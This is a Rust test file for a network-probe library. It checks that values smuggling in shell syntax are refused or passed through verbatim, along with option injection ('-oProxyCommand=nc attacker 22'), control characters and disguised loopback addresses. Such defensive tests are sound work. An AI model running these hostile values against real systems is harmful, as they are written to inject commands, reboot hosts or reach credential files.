//! Hostile argument values: `;`, `$(...)`, backticks, `-oProxyCommand=`, newlines and
//! 10 KB strings, in every argument of every probe. None may reach a process as an extra
//! argument, an option or shell syntax: values that reach the system are refused with the
//! reason, and what a command does receive arrives verbatim, one value per argument.

mod common;

use std::collections::BTreeMap;

use common::args;
#[cfg(unix)]
use common::show;
#[cfg(unix)]
use deskbook_probes::MapTasks;
use deskbook_probes::{run, validate, NoTasks, ProbeError, Status, PROBES};

fn refusal(probe: &str, pairs: &[(&str, &str)]) -> String {
    match validate(probe, &args(pairs)) {
        Ok(()) => panic!("{probe} {pairs:?} should be refused"),
        Err(e) => e.to_string(),
    }
}

/// The arguments each probe needs to be valid, so that one argument at a time can be
/// replaced by a hostile value.
fn valid_args(probe: &str) -> Vec<(&'static str, &'static str)> {
    match probe {
        "os" => vec![],
        "ping" => vec![
            ("host", "192.0.2.10"),
            ("count", "2"),
            ("timeout_ms", "500"),
        ],
        "resolve" => vec![
            ("name", "srv-files-01.woodgrovebank.com"),
            ("server", "192.0.2.53"),
            ("type", "A"),
            ("timeout_ms", "500"),
        ],
        "tcp" => vec![
            ("host", "192.0.2.10"),
            ("port", "445"),
            ("timeout_ms", "500"),
        ],
        "udp" => vec![
            ("host", "192.0.2.10"),
            ("port", "53"),
            ("protocol", "dns"),
            ("name", "woodgrovebank.com"),
            ("timeout_ms", "500"),
        ],
        "ike" => vec![
            ("host", "192.0.2.10"),
            ("port", "500"),
            ("version", "both"),
            ("timeout_ms", "500"),
            ("source_port", "0"),
        ],
        "command" => vec![
            ("task", "find-dc"),
            ("timeout_ms", "500"),
            ("regex", "DC: (\\S+)"),
            ("os", "windows"),
            ("domain", "woodgrovebank.com"),
            ("note", "pc-0042"),
        ],
        "file" => vec![
            ("path", "/var/log/syslog"),
            ("pattern", "IKE"),
            ("tail", "10"),
        ],
        other => panic!("no valid arguments for {other}"),
    }
}

#[test]
fn the_valid_argument_sets_used_below_are_accepted() {
    for probe in PROBES {
        let a = valid_args(probe);
        assert_eq!(validate(probe, &args(&a)), Ok(()), "{probe}");
    }
    assert_eq!(
        validate("command", &args(&[("argv", "klist purge")])),
        Ok(())
    );
}

#[test]
fn a_newline_in_any_argument_of_any_probe_is_refused() {
    for probe in PROBES {
        for (arg, _) in valid_args(probe) {
            let mut a = valid_args(probe);
            let hostile = "192.0.2.10\nreboot";
            for pair in a.iter_mut().filter(|(k, _)| *k == arg) {
                pair.1 = hostile;
            }
            assert_eq!(
                refusal(probe, &a),
                format!("argument `{arg}` = \"192.0.2.10\\nreboot\": control characters (such as a newline) are not allowed"),
                "{probe} {arg}"
            );
        }
    }
}

#[test]
fn a_10_kb_value_in_any_argument_of_any_probe_is_refused() {
    let big = "a".repeat(10 * 1024);
    for probe in PROBES {
        for (arg, _) in valid_args(probe) {
            let mut a = valid_args(probe);
            for pair in a.iter_mut().filter(|(k, _)| *k == arg) {
                pair.1 = &big;
            }
            let msg = refusal(probe, &a);
            let limit = match arg {
                "path" => 4096,
                // Placeholder values of `command` are short words.
                "domain" | "note" => 255,
                _ => 1024,
            };
            assert!(
                msg.ends_with(&format!(": too long: 10240 bytes (at most {limit})")),
                "{probe} {arg}: {msg}"
            );
            assert!(
                msg.len() < 200,
                "the message does not repeat the value: {msg}"
            );
        }
    }
}

#[test]
fn hostile_hosts_are_refused_by_every_network_probe_with_the_reason() {
    const RFC: &str = "expected an IP address or a host name: a host name may contain only letters, digits, `-` and `.` (RFC 1123), not";
    let cases: Vec<(&str, String)> = vec![
        (";", format!("{RFC} `;`")),
        ("srv-files-01;reboot", format!("{RFC} `;`")),
        ("$(reboot)", format!("{RFC} `$`")),
        ("`reboot`", format!("{RFC} a backtick")),
        ("srv && reboot", format!("{RFC} a space")),
        ("srv|nc", format!("{RFC} `|`")),
        (
            "-oProxyCommand=nc attacker 22",
            "expected an IP address or a host name: a host name may not start with `-` (it would read as an option)".to_owned(),
        ),
    ];
    for probe in ["ping", "tcp", "udp", "ike"] {
        for (value, reason) in &cases {
            let mut a = valid_args(probe);
            for pair in a.iter_mut().filter(|(k, _)| *k == "host") {
                pair.1 = value;
            }
            let msg = refusal(probe, &a);
            assert!(msg.starts_with("argument `host` = \""), "{msg}");
            assert!(
                msg.ends_with(&format!("\": {reason}")),
                "{probe} {value:?}: {msg}"
            );
            // run() refuses with the same words and never touches the network.
            let r = run(probe, &args(&a), &NoTasks);
            assert_eq!(r.status, Status::Error);
            assert_eq!(r.summary, msg);
        }
    }
    // The name of `resolve` allows `_` (SRV owners) but nothing a shell would read.
    assert_eq!(
        refusal("resolve", &[("name", "$(id).example.com")]),
        "argument `name` = \"$(id).example.com\": expected an IP address or a host name: a host name may contain only letters, digits, `-`, `_` and `.`, not `$`"
    );
}

#[test]
fn placeholder_values_cannot_carry_options_or_shell_syntax() {
    let cases = [
        ("domain", "-oProxyCommand=evil", "argument `domain` = \"-oProxyCommand=evil\": expected an IP address or a host name: a host name may not start with `-` (it would read as an option)"),
        ("note", "-oProxyCommand=evil", "argument `note` = \"-oProxyCommand=evil\": a placeholder value may not start with `-` or `/` (it would read as an option)"),
        ("note", "/delete", "argument `note` = \"/delete\": a placeholder value may not start with `-` or `/` (it would read as an option)"),
        ("note", "a;b", "argument `note` = \"a;b\": a placeholder value may contain letters, digits and . _ - : @ \\ / = + , only, not `;`"),
        ("note", "$(reboot)", "argument `note` = \"$(reboot)\": a placeholder value may contain letters, digits and . _ - : @ \\ / = + , only, not `$`"),
        ("note", "a b", "argument `note` = \"a b\": a placeholder value may contain letters, digits and . _ - : @ \\ / = + , only, not ` `"),
        ("note", "%PATH%", "argument `note` = \"%PATH%\": a placeholder value may contain letters, digits and . _ - : @ \\ / = + , only, not `%`"),
        ("host", "x;y", "argument `host` = \"x;y\": expected an IP address or a host name: a host name may contain only letters, digits, `-` and `.` (RFC 1123), not `;`"),
        ("port", "445 -x", "argument `port` = \"445 -x\": expected a port number from 1 to 65535"),
    ];
    for (k, v, expected) in cases {
        assert_eq!(
            refusal("command", &[("task", "find-dc"), (k, v)]),
            expected,
            "{k}={v:?}"
        );
    }
}

/// Regression guard for the order "split, then fill": a refused placeholder value means
/// the tool never starts (the marker file it would create stays absent), and an accepted
/// one arrives as one argument.
#[cfg(unix)]
#[test]
fn a_refused_placeholder_value_never_starts_the_tool() {
    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("ran");
    // `env -C` keeps both files in the temporary folder, never in the working directory.
    let dir_s = dir.path().display().to_string();
    let tasks = MapTasks::new().with(
        "linux",
        "show-log",
        &format!("env -C {dir_s} touch ran {{{{ note }}}}"),
    );
    let refused = run(
        "command",
        &args(&[("task", "show-log"), ("os", "linux"), ("note", "x;touch")]),
        &tasks,
    );
    assert_eq!(refused.status, Status::Error, "{}", show(&refused));
    assert!(!marker.exists(), "the tool ran");
    let accepted = run(
        "command",
        &args(&[
            ("task", "show-log"),
            ("os", "linux"),
            ("note", "second-file"),
        ]),
        &tasks,
    );
    assert_eq!(accepted.status, Status::Ok, "{}", show(&accepted));
    assert!(marker.exists(), "the tool did not run with a good value");
    assert_eq!(
        accepted.data["argv"],
        serde_json::json!(["env", "-C", dir_s, "touch", "ran", "second-file"])
    );
}

#[cfg(unix)]
#[test]
fn argv_elements_reach_the_program_verbatim_one_per_argument() {
    let hostile = [
        ";",
        "$(reboot)",
        "`reboot`",
        "-oProxyCommand=nc attacker 22",
        "a b c",
        "*",
        "&& reboot",
        "| nc attacker 22",
        "> /etc/passwd",
        "'\"",
    ];
    let mut argv = vec!["printf".to_owned(), "<%s>\\n".to_owned()];
    argv.extend(hostile.iter().map(|s| (*s).to_owned()));
    let json = serde_json::to_string(&argv).expect("json");
    let r = run("command", &args(&[("argv", &json)]), &NoTasks);
    assert_eq!(r.status, Status::Ok, "{}", show(&r));
    let expected: String = hostile.iter().map(|h| format!("<{h}>\n")).collect();
    assert_eq!(r.output, expected);
}

#[cfg(unix)]
#[test]
fn a_command_line_string_is_split_into_words_and_never_given_to_a_shell() {
    let r = run(
        "command",
        &args(&[("argv", "printf <%s> $(id) ; reboot | cat `id`")]),
        &NoTasks,
    );
    assert_eq!(r.status, Status::Ok, "{}", show(&r));
    assert_eq!(r.output, "<$(id)><;><reboot><|><cat><`id`>");
}

#[test]
fn argv_with_a_newline_or_an_option_as_the_program_is_refused() {
    assert_eq!(
        refusal("command", &[("argv", r#"["printf", "a\nb"]"#)]),
        "argument `argv` = \"a\\nb\": control characters (such as a newline) are not allowed"
    );
    assert_eq!(
        refusal("command", &[("argv", "-oProxyCommand=x ssh")]),
        "argument `argv` = \"-oProxyCommand=x ssh\": the first word must name a program, not an option"
    );
    assert_eq!(
        refusal("command", &[("argv", "printf 'unclosed")]),
        "argument `argv` = \"printf 'unclosed\": unbalanced quotes in the command line"
    );
    assert_eq!(
        refusal("command", &[("argv", "[1, 2]")]),
        "argument `argv` = \"[1, 2]\": expected a JSON array of strings, such as [\"klist\", \"purge\"]"
    );
}

#[test]
fn hostile_argument_names_are_shown_escaped_not_obeyed() {
    assert_eq!(
        refusal(
            "tcp",
            &[
                ("host", "192.0.2.10"),
                ("port", "445"),
                ("port\n--help", "x")
            ]
        ),
        "probe `tcp` has no argument `port\\n--help` (it takes: host, port, timeout_ms)"
    );
    assert_eq!(
        refusal("file", &[("path", "/tmp/x"), ("Path", "/etc/shadow")]),
        "probe `file` has no argument `Path` (it takes: path, pattern, tail)"
    );
    let err = validate("ping;reboot", &BTreeMap::new());
    assert_eq!(err, Err(ProbeError::UnknownProbe("ping;reboot".into())));
}

#[test]
fn bad_names_ports_timeouts_and_choices_say_what_was_expected() {
    // (probe, arguments, the exact message)
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case<'_>] = &[
        ("traceroute", &[], "unknown probe `traceroute` (known probes: os, ping, resolve, tcp, udp, ike, command, file)"),
        ("tcp", &[("host", "192.0.2.10")], "probe `tcp` needs the argument `port`"),
        ("os", &[("host", "x")], "probe `os` has no argument `host` (it takes: no arguments)"),
        ("tcp", &[("host", "192.0.2.10"), ("port", "0")], "argument `port` = \"0\": expected a port number from 1 to 65535"),
        ("tcp", &[("host", "192.0.2.10"), ("port", "65536")], "argument `port` = \"65536\": expected a port number from 1 to 65535"),
        ("tcp", &[("host", "192.0.2.10"), ("port", "-1")], "argument `port` = \"-1\": expected a port number from 1 to 65535"),
        ("tcp", &[("host", "192.0.2.10"), ("port", "445"), ("timeout_ms", "0")], "argument `timeout_ms` = \"0\": expected a whole number from 1 to 60000"),
        ("tcp", &[("host", "192.0.2.10"), ("port", "445"), ("timeout_ms", "1e3")], "argument `timeout_ms` = \"1e3\": expected a whole number from 1 to 60000"),
        ("ping", &[("host", "192.0.2.10"), ("count", "1000")], "argument `count` = \"1000\": expected a whole number from 1 to 100"),
        ("udp", &[("host", "192.0.2.10"), ("protocol", "ldap")], "argument `protocol` = \"ldap\": expected `dns` (a DNS query) or `cldap` (an LDAP rootDSE query over UDP, as portqry sends)"),
        ("udp", &[("host", "192.0.2.10"), ("protocol", "cldap"), ("name", "x")], "probe `udp` takes `name` only with protocol=dns (the name to query)"),
        ("ike", &[("host", "192.0.2.10"), ("version", "3")], "argument `version` = \"3\": expected `1` (IKEv1 main mode), `2` (IKEv2) or `both`"),
        ("resolve", &[("name", "x"), ("server", "dns.example.com")], "argument `server` = \"dns.example.com\": expected a DNS server's IP address, optionally with a port (192.0.2.53, 192.0.2.53:5353, [2001:db8::53]:53)"),
        ("resolve", &[("name", "x"), ("type", "AXFR")], "argument `type` = \"AXFR\": expected a record type: A, AAAA, PTR, SRV, CNAME, MX, NS, TXT, SOA or ANY"),
        ("command", &[], "probe `command` needs `task` (a tool-matrix task) or `argv` (a command)"),
        ("command", &[("task", "find-dc"), ("argv", "ls")], "probe `command` takes either `task` or `argv`, not both"),
        ("command", &[("task", "Find DC")], "argument `task` = \"Find DC\": expected a tool-matrix task name such as `show-active-policy` (a-z, 0-9, -)"),
        ("command", &[("task", "find-dc"), ("os", "win95")], "argument `os` = \"win95\": expected an OS id: win2000, winxp, winxp-sp2, win2003, windows or linux"),
        ("command", &[("argv", "ls"), ("regex", "(")], "argument `regex` = \"(\": not a valid regular expression: unclosed group"),
        ("file", &[("path", "")], "argument `path` = \"\": expected a file path"),
        ("file", &[("path", "/x"), ("tail", "0")], "argument `tail` = \"0\": expected a whole number from 1 to 100000"),
    ];
    for (probe, a, expected) in cases {
        assert_eq!(refusal(probe, a), *expected, "{probe} {a:?}");
    }
}

/// Regression: `0x7f.1` passed as a host *name* and the resolver connected it to
/// 127.0.0.1, while `127.1` and `0177.0.0.1` were refused. Every short, octal and hex IPv4
/// form is refused alike, by every probe that takes a host, naming the address the
/// resolver would have used.
#[test]
fn ipv4_in_short_octal_or_hex_form_is_refused_alike_everywhere() {
    let forms = [
        ("0x7f.1", " (the resolver would read it as 127.0.0.1)"),
        ("127.1", " (the resolver would read it as 127.0.0.1)"),
        ("0177.0.0.1", " (the resolver would read it as 127.0.0.1)"),
        ("0x7f000001", " (the resolver would read it as 127.0.0.1)"),
        ("2130706433", " (the resolver would read it as 127.0.0.1)"),
        ("999.1.1.1", ""),
        ("srv.0x10", ""),
    ];
    for probe in ["ping", "tcp", "udp", "ike"] {
        for (form, meant) in forms {
            let mut a = valid_args(probe);
            for pair in a.iter_mut().filter(|(k, _)| *k == "host") {
                pair.1 = form;
            }
            assert_eq!(
                refusal(probe, &a),
                format!("argument `host` = {form:?}: expected an IP address or a host name: `{form}` is not an IPv4 address as four decimal numbers 0-255 without leading zeros{meant}, and a host name may not end in a number"),
                "{probe} {form}"
            );
        }
    }
    // The same rule for the names of `resolve` and the placeholders of `command`.
    assert!(refusal("resolve", &[("name", "0x7f.1")]).contains("may not end in a number"));
    assert!(
        refusal("command", &[("task", "find-dc"), ("domain", "127.1")])
            .contains("may not end in a number")
    );
    // And the public checks the playbook inputs use.
    assert_eq!(
        deskbook_probes::check_host("0177.0.0.1"),
        Err("expected an IP address or a host name: `0177.0.0.1` is not an IPv4 address as four decimal numbers 0-255 without leading zeros (the resolver would read it as 127.0.0.1), and a host name may not end in a number".to_owned())
    );
    assert_eq!(
        deskbook_probes::check_hostname("0x7f.1"),
        Err("expected a host name such as pc-0042 or srv-files-01.example.com: `0x7f.1` is not an IPv4 address as four decimal numbers 0-255 without leading zeros (the resolver would read it as 127.0.0.1), and a host name may not end in a number".to_owned())
    );
    assert_eq!(
        deskbook_probes::check_hostname("192.0.2.10"),
        Err(
            "expected a host name such as pc-0042 or srv-files-01.example.com, not an address"
                .to_owned()
        )
    );
    for ok in [
        "127.0.0.1",
        "3com.example.net",
        "0x7f.example.com",
        "pc-0042",
    ] {
        assert_eq!(deskbook_probes::check_host(ok), Ok(()), "{ok}");
    }
}

/// A UDP echo server on loopback: every datagram goes back to its sender unchanged.
fn udp_echo_server() -> u16 {
    let sock = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    let port = sock.local_addr().expect("address").port();
    std::thread::spawn(move || {
        let mut buf = [0u8; 65_536];
        while let Ok((n, from)) = sock.recv_from(&mut buf) {
            let _ = sock.send_to(&buf[..n], from);
        }
    });
    port
}

/// Regression: an echo of the probe's own IKEv1 first message was reported as "answered
/// IKEv1 main mode: proposal chosen". A reply counts only when it is a response.
#[test]
fn ike_against_a_udp_echo_server_is_not_an_ike_responder() {
    let port = udp_echo_server().to_string();
    for (version, label, reason) in [
        (
            "1",
            "IKEv1 main mode",
            "an IKEv1 main mode message without a responder cookie, not a response",
        ),
        ("2", "IKEv2 IKE_SA_INIT", "an IKEv2 request, not a response"),
    ] {
        let r = run(
            "ike",
            &args(&[
                ("host", "127.0.0.1"),
                ("port", &port),
                ("version", version),
                ("timeout_ms", "300"),
            ]),
            &NoTasks,
        );
        assert_eq!(r.status, Status::Fail, "{}", common::show(&r));
        assert_eq!(r.data["answered"], serde_json::json!(false));
        assert_eq!(r.data["result"], serde_json::json!("not-ike"));
        assert_eq!(
            r.summary,
            format!("no IKE response to {label} from 127.0.0.1:{port} within 300 ms: what came back was not one ({reason}); something else answers on UDP {port} (an echo service or a reflector), not an IKE responder")
        );
    }
}

/// Whether process `pid` is gone (or a zombie waiting for init to reap it).
#[cfg(target_os = "linux")]
fn gone(pid: &str) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        Ok(stat) => stat
            .rsplit(')')
            .next()
            .is_some_and(|rest| rest.trim_start().starts_with('Z')),
    }
}

#[cfg(target_os = "linux")]
fn wait_gone(pid: &str) -> bool {
    let until = std::time::Instant::now() + std::time::Duration::from_secs(3);
    while std::time::Instant::now() < until {
        if gone(pid) {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    false
}

/// Regression: on timeout only the direct child was killed and `sleep 400` outlived the
/// probe. The whole process group goes, whether the program overruns its time or exits
/// and leaves something running in the background.
#[cfg(target_os = "linux")]
#[test]
fn the_command_probe_ends_everything_its_program_started() {
    for (script, timeout, status) in [
        ("sleep 400 & echo $!; sleep 30", "500", Status::Error),
        ("sleep 400 & echo $!", "5000", Status::Ok),
    ] {
        let argv = serde_json::to_string(&["sh", "-c", script]).expect("json");
        let began = std::time::Instant::now();
        let r = run(
            "command",
            &args(&[("argv", &argv), ("timeout_ms", timeout)]),
            &NoTasks,
        );
        assert!(
            began.elapsed() < std::time::Duration::from_secs(3),
            "took {:?}",
            began.elapsed()
        );
        assert_eq!(r.status, status, "{}", common::show(&r));
        let pid = r.output.trim().to_owned();
        assert!(
            !pid.is_empty() && pid.chars().all(|c| c.is_ascii_digit()),
            "{}",
            common::show(&r)
        );
        assert!(wait_gone(&pid), "`sleep 400` (pid {pid}) is still running");
    }
}
